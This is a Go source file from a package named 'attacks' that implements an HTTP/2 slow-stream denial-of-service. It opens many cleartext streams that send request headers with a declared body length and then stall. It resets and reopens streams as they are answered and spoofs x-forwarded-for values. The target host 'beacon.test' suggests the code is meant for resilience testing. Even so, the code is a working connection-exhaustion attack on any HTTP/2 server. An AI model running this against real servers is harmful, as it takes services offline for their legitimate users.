package attacks

import (
	"bytes"
	"io"
	"net"
	"strconv"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// streams is one connection of HTTP/2, in clear text, whose streams send the head of a
// request and then nothing. One that was answered makes room for another.
func (r *attacker) streams(n int) {
	for !r.over() {
		if err := r.stall(n); err != nil && !r.over() {
			r.count(0)
			time.Sleep(100 * time.Millisecond)
		}
	}
}

func (r *attacker) stall(n int) error {
	c, err := net.DialTimeout("tcp", r.Addr, 5*time.Second)
	if err != nil {
		return err
	}
	defer c.Close()
	_ = c.SetDeadline(r.until) // an open connection always takes one
	if _, err := io.WriteString(c, http2.ClientPreface); err != nil {
		return err
	}
	f := http2.NewFramer(c, c)
	if err := f.WriteSettings(); err != nil {
		return err
	}
	s := &stream{f: f, from: r.from(n), payload: &r.payload}
	s.encoder = hpack.NewEncoder(&s.block)
	f.ReadMetaHeaders = hpack.NewDecoder(4096, nil)
	for range r.Streams {
		if err := s.open(); err != nil {
			return err
		}
	}
	for {
		frame, err := f.ReadFrame()
		if err != nil {
			return err
		}
		switch frame := frame.(type) {
		case *http2.SettingsFrame:
			if !frame.IsAck() {
				err = s.write(f.WriteSettingsAck)
			}
		case *http2.PingFrame:
			if !frame.IsAck() {
				err = s.write(func() error { return f.WritePing(true, frame.Data) })
			}
		case *http2.MetaHeadersFrame:
			status, _ := strconv.Atoi(frame.PseudoValue("status"))
			r.count(status)
			err = s.write(func() error { return f.WriteRSTStream(frame.StreamID, http2.ErrCodeCancel) })
			time.AfterFunc(r.Every, func() { _ = s.open() }) // reading finds out that it is closed
		case *http2.GoAwayFrame:
			return io.EOF
		}
		if err != nil {
			return err
		}
	}
}

// A stream opens streams on a connection, one after the other.
type stream struct {
	mu      sync.Mutex
	f       *http2.Framer
	encoder *hpack.Encoder
	block   bytes.Buffer
	from    string
	payload *payload
	last    uint32
}

func (s *stream) write(f func() error) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	return f()
}

func (s *stream) open() error {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.block.Reset()
	for _, h := range [][2]string{
		{":method", "POST"}, {":scheme", "http"}, {":authority", "beacon.test"}, {":path", "/b"},
		{"x-forwarded-for", s.from}, {"content-type", s.payload.kind}, {"content-length", strconv.Itoa(s.payload.length)},
	} {
		if err := s.encoder.WriteField(hpack.HeaderField{Name: h[0], Value: h[1]}); err != nil {
			return err
		}
	}
	if s.last == 0 {
		s.last = 1
	} else {
		s.last += 2
	}
	return s.f.WriteHeaders(http2.HeadersFrameParam{StreamID: s.last, BlockFragment: s.block.Bytes(), EndHeaders: true})
}
